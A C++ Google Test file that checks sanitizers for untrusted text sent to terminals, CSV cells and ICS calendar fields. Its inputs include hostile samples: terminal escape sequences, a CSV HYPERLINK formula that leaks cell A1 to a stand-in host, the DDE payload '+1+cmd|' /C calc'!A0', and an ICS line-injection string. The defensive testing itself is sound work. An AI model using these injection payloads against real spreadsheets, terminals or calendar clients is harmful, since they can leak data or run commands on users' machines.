// Text from outside made harmless: what each output keeps, escapes or removes.
#include "clients/untrusted_text.h"

#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace matching::clients {
namespace {

using ::testing::HasSubstr;

bool HasControlByte(const std::string& text) {
  for (char c : text) {
    const auto byte = static_cast<unsigned char>(c);
    if (byte < 0x20 || byte == 0x7F) return true;
  }
  return false;
}

TEST(TerminalTextTest, KeepsPrintableUtf8) {
  EXPECT_EQ(TerminalText("Lunéville — Île-de-France, 北京, 🙂"),
            "Lunéville — Île-de-France, 北京, 🙂");
  EXPECT_EQ(TerminalText(""), "");
}

TEST(TerminalTextTest, EscapesC0ControlsAndDel) {
  EXPECT_EQ(TerminalText("Metz\x1b[2J\x1b]0;pwned\x07"), "Metz\\x1b[2J\\x1b]0;pwned\\x07");
  EXPECT_EQ(TerminalText("a\r\n\tb"), "a\\r\\n\\tb");
  EXPECT_EQ(TerminalText(std::string("nul\0", 4)), "nul\\x00");
  EXPECT_EQ(TerminalText("del\x7f"), "del\\x7f");
}

TEST(TerminalTextTest, EscapesC1ControlsBidiOverridesAndBytesThatAreNotUtf8) {
  EXPECT_EQ(TerminalText("csi\xc2\x9b"
                         "2J"),
            "csi\\u009b2J");  // U+009B, the one-character CSI
  EXPECT_EQ(TerminalText("raw\x9b"
                         "2J"),
            "raw\\x9b2J");  // the same byte alone, for terminals in 8-bit mode
  EXPECT_EQ(TerminalText("abc\xe2\x80\xae"
                         "fed"),
            "abc\\u202efed");                           // RIGHT-TO-LEFT OVERRIDE
  EXPECT_EQ(TerminalText("\xc3(\xe9"), "\\xc3(\\xe9");  // Latin-1 é, cut sequence
  EXPECT_EQ(TerminalText("\xc0\x80"), "\\xc0\\x80");    // overlong NUL
}

TEST(CsvTextCellTest, FormulaStartsGetAQuote) {
  EXPECT_EQ(CsvTextCell("=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")"),
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"clic\"\")\"");
  EXPECT_EQ(CsvTextCell("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
  EXPECT_EQ(CsvTextCell("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(CsvTextCell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
  EXPECT_EQ(CsvTextCell("\t=1"), "\"'\t=1\"");
  EXPECT_EQ(CsvTextCell("\r=1"), "\"'\r=1\"");
}

TEST(CsvTextCellTest, OtherTextIsOnlyQuoted) {
  EXPECT_EQ(CsvTextCell("MSP \"Les Tilleuls\", Lunéville"),
            "\"MSP \"\"Les Tilleuls\"\", Lunéville\"");
  EXPECT_EQ(CsvTextCell("a=b"), "\"a=b\"");
  EXPECT_EQ(CsvTextCell(""), "\"\"");
}

TEST(CsvNumberCellTest, NegativeNumbersStayNumbers) {
  EXPECT_EQ(CsvNumberCell(-0.25, 3), "\"-0.250\"");
  EXPECT_EQ(CsvNumberCell(0.75, 3), "\"0.750\"");
}

TEST(IcsPlainTextTest, LineBreaksBecomeSpacesOtherControlsGo) {
  EXPECT_EQ(IcsPlainText("Bar\rORGANIZER:mailto:x@example.org"),
            "Bar ORGANIZER:mailto:x@example.org");
  EXPECT_EQ(IcsPlainText("a\nb\tc\vd\fe\x1c"
                         "f\xc2\x85g\xe2\x80\xa8h\xe2\x80\xa9i"),
            "a b c d e f g h i");
  EXPECT_EQ(IcsPlainText("esc\x1b[2J del\x7f c1\xc2\x9b nul"), "esc[2J del c1 nul");
  EXPECT_EQ(IcsPlainText(std::string("\0x\xff", 3)), "x");
  EXPECT_EQ(IcsPlainText("Lunéville; Nancy, 54"), "Lunéville; Nancy, 54");
  EXPECT_FALSE(HasControlByte(IcsPlainText("\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x1f")));
  EXPECT_THAT(IcsPlainText("Bar\r\nORGANIZER"), HasSubstr("Bar  ORGANIZER"));
}

}  // namespace
}  // namespace matching::clients
